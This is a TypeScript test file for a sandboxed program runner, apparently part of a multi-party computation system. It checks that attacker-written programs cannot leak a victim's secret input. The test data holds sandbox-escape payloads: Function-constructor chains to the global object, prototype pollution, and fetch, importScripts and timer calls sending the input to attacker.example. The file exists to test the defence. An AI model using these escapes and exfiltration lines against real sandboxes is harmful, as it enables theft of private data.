// Programs built as an attacker would build them, run as the program worker runs them (a
// locked-down process, test/helpers/locked-runner.ts): the proposer's text tries to send the
// victim's raw input (party 1's) out through the pool, the session, the global object, Function
// constructor chains, fetch, indexedDB, importScripts, postMessage, timers, or to change shared
// prototypes. Each must fail with ERR_PROGRAM at the victim, and nothing may leave it: no frame
// it sends carries the input as itself, no host function is called, no prototype changes.

import { beforeAll, describe, expect, it } from 'vitest';
import { type LockedResult, lockedRun } from '../../helpers/locked.js';

const SECRET = 1234.5;
/** Sends what `leak` evaluates to, at the victim, through the host function named by `to`. */
const exfiltrate = (reach: string) =>
  `if (party === 1) { const g = ${reach}; await g.fetch('https://attacker.example/?' + input); g.postMessage(input); }\nreturn null;`;

const ATTACKS: Record<string, string> = {
  'the pool (x.session.pool.send)':
    'const x = snp.zeros([1]);\n' +
    "if (party === 1) await x.session.pool.send(0, input, 'leak'); else await x.session.pool.recv(1, 'leak');\n" +
    'return null;',
  'the session, found by walking the array':
    'const x = snp.zeros([1]);\n' +
    "const s = Reflect.ownKeys(x).map((k) => x[k]).find((v) => v && typeof v === 'object' && 'pool' in v);\n" +
    "if (!s) throw new Error('no session');\n" +
    "if (party === 1) await s.pool.send(0, input, 'leak'); else await s.pool.recv(1, 'leak');\n" +
    'return null;',
  'the session, through a method of snp': `const s = snp.stats.constructor('return this')(); ${exfiltrate('s')}`,
  globalThis: exfiltrate('globalThis'),
  self: exfiltrate('self'),
  "x.constructor.constructor('return this')()": exfiltrate("snp.zeros([1]).constructor.constructor('return this')()"),
  '(async () => {}).constructor': exfiltrate("await (async () => {}).constructor('return globalThis')()"),
  'Object.getPrototypeOf(a function).constructor': exfiltrate(
    "Object.getPrototypeOf(snp.add).constructor('return this')()",
  ),
  'Function (the compartment’s own)': exfiltrate("Function('return this')()"),
  fetch: "if (party === 1) await fetch('https://attacker.example/?' + input);\nreturn null;",
  indexedDB: "if (party === 1) indexedDB.open('parley');\nreturn null;",
  importScripts: "if (party === 1) importScripts('https://attacker.example/' + input);\nreturn null;",
  postMessage: 'if (party === 1) postMessage(input);\nreturn null;',
  'setTimeout (a timer that outlives the job)':
    "if (party === 1) setTimeout(() => fetch('https://attacker.example/?' + input), 0);\nreturn null;",
  'setInterval (a timer that outlives the job)':
    "if (party === 1) setInterval(() => fetch('https://attacker.example/?' + input), 10);\nreturn null;",
  'Object.prototype': 'Object.prototype.polluted = input;\nreturn null;',
  'Array.prototype': 'Array.prototype.polluted = input;\nreturn null;',
};

const names = Object.keys(ATTACKS);
let results: LockedResult[];
let benign: LockedResult;

beforeAll(async () => {
  const scenario = (text: string) => ({
    text,
    inputs: [[[1]], [[SECRET]]] as [number[][], number[][]],
    reveal: [0],
    victim: 1,
    secret: SECRET,
  });
  const all = await lockedRun([
    ...names.map((n) => scenario(ATTACKS[n]!)),
    scenario('const x = snp.array(party === 1 ? input : null, 1);\nreturn x.mul(2).revealTo(0);'),
  ]);
  benign = all.pop()!;
  results = all;
}, 300_000);

describe('a job program in the sandbox', () => {
  it('a benign program runs; the victim sends its input only as shares', () => {
    expect(benign).toMatchObject({ codes: ['ok', 'ok'], leaked: false, hostCalls: [], polluted: false, locked: true });
  });

  it.each(names.map((n, i) => [n, i] as const))('cannot reach %s: ERR_PROGRAM, nothing leaves', (_, i) => {
    const r = results[i]!;
    expect({ victim: r.codes[1], leaked: r.leaked, hostCalls: r.hostCalls, polluted: r.polluted }).toEqual({
      victim: 'ERR_PROGRAM',
      leaked: false,
      hostCalls: [],
      polluted: false,
    });
    expect(r.locked).toBe(true);
  });
});
